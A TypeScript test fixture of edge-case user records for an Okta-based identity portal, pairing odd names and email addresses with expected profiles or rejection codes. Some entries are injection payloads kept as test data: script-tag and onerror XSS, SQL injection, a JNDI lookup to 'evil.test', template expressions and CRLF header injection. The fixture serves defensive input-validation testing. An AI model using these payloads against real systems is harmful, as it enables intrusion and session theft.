/** People whose names and addresses break careless programs, each with what must become of them at a portal without limits. */

import type { ReasonCode } from '../../events/reason-codes.ts';
import type { OktaUser } from '../../system/okta/people.ts';

export interface AwkwardPerson extends OktaUser {
  /** The fields of the profile that follow from the claims; absent for a rejection. */
  profile?: { Email: string; given_name?: string; family_name?: string };
  /** Why there is no profile, sorted. */
  reasons?: ReasonCode[];
}

type Claims = Pick<OktaUser, 'email' | 'given_name' | 'family_name'>;

const accepted = (username: string, claims: Claims, profile: AwkwardPerson['profile']): AwkwardPerson => ({
  ...{ username, shows: username, email_verified: true, ...claims },
  profile,
});

/** Whose texts arrive exactly as they are. */
function literal(username: string, email: string, names: { given_name: string; family_name: string }): AwkwardPerson {
  return accepted(username, { email, ...names }, { Email: email, ...names });
}

const rejected = (username: string, claims: Claims, ...reasons: ReasonCode[]): AwkwardPerson => ({
  ...{ username, shows: username, email_verified: true, ...claims },
  reasons: reasons.toSorted(),
});

/** An identity provider may send a number where a name is expected. */
const numbers = (): Claims => JSON.parse('{"given_name": 4815162342, "family_name": 2342161584}');

export const AWKWARD_PEOPLE: readonly AwkwardPerson[] = [
  accepted(
    'empty-names',
    { email: 'nameless.nemo@example.com', given_name: '', family_name: ' \u00a0\u200b ' },
    { Email: 'nameless.nemo@example.com' },
  ),
  accepted(
    'spaces-around',
    { email: '  Padded.Pat@Example.COM ', given_name: '\u00a0Patrizia ', family_name: '\u3000Zwischenraum' },
    { Email: 'padded.pat@example.com', given_name: 'Patrizia', family_name: 'Zwischenraum' },
  ),
  accepted(
    'decomposed',
    {
      email: 'decomposed.andre@example.com',
      given_name: 'Andre\u0301-Decompose\u0301',
      family_name: 'Sto\u0308rtebeker',
    },
    { Email: 'decomposed.andre@example.com', given_name: 'André-Decomposé', family_name: 'Störtebeker' },
  ),
  accepted(
    'numbers',
    { email: 'numeric.nadia@example.com', ...numbers() },
    { Email: 'numeric.nadia@example.com', given_name: '4815162342', family_name: '2342161584' },
  ),
  literal('digits', '31415926@example.com', { given_name: '27182818284', family_name: '1e999' }),
  literal('emoji', 'rocket.rita@example.com', { given_name: '👩🏽‍🚀👨‍👩‍👧‍👦', family_name: '𝕽𝖆𝖐𝖊𝖙𝖊 🏴󠁧󠁢󠁳󠁣󠁴󠁿' }),
  literal('right-to-left', 'rtl.rahel@example.com', { given_name: 'רחל־שושנה', family_name: 'الخوارزمي' }),
  literal('html', 'markup.mary@example.com', {
    given_name: "<script>alert('mary')</script>",
    family_name: '"><img src=x onerror=alert(`markup`)>&lt;',
  }),
  literal('query-language', 'bobby.tables@example.com', {
    given_name: "Robert'); DROP TABLE Profiles;--",
    family_name: '" OR ""="',
  }),
  literal('expressions', 'jason.ata@example.com', {
    given_name: '{% $states.context.Execution.RoleArn %}',
    family_name: '${jndi:ldap://evil.test/x} <aws.events.event.json> %{7*7} {{7*7}}',
  }),
  literal('property-names', 'proto.polly@example.com', { given_name: '__proto__', family_name: 'constructor' }),
  literal('words-of-nothing', 'null.nora@example.com', { given_name: 'undefined', family_name: 'null' }),
  literal('json-in-a-name', 'json.jane@example.com', { given_name: '{"userName":"okta_other"}', family_name: '\\",[' }),
  literal('plus', 'plus.petra+portal=1&x@example.com', { given_name: 'Petra Plusquam', family_name: 'O’Plus' }),
  literal('quoted-address', '"quoted..quentin"@example.com', {
    given_name: 'Quentin',
    family_name: 'Anführungs‑Zeichen',
  }),
  literal('unicode-domain', 'jürgen@bücher.例え.example', { given_name: 'Jürgen', family_name: 'Umlautdomäne' }),
  rejected(
    'two-thousand-characters',
    {
      email: `${'e'.repeat(1_985)}@long.example`,
      given_name: 'Ōverlong'.repeat(250),
      family_name: 'x'.repeat(2_000),
    },
    'email-too-long',
    'given_name-too-long',
    'family_name-too-long',
  ),
  rejected(
    'control-characters',
    { email: 'bell\u0007.bea@example.com', given_name: 'Bea\u0000trice', family_name: 'Bel\u001b[31mlamy' },
    'email-control-characters',
    'given_name-control-characters',
    'family_name-control-characters',
  ),
  rejected(
    'header-injection',
    {
      email: 'crlf.carl@example.com\r\nBcc: everyone@example.com',
      given_name: 'Carl\r\nSet-Cookie: session=stolen',
      family_name: 'Return\u2028Linefeed',
    },
    'email-control-characters',
    'email-malformed',
    'given_name-control-characters',
    'family_name-control-characters',
  ),
  rejected(
    'overrides',
    { email: 'bidi.bert@example.com', given_name: '\u202etreb\u202c', family_name: '\u2066Isolate\u2069' },
    'given_name-control-characters',
    'family_name-control-characters',
  ),
  rejected(
    'half-a-character',
    { email: 'half.hanna@example.com', given_name: 'Hanna\ud83d' },
    'given_name-control-characters',
  ),
];
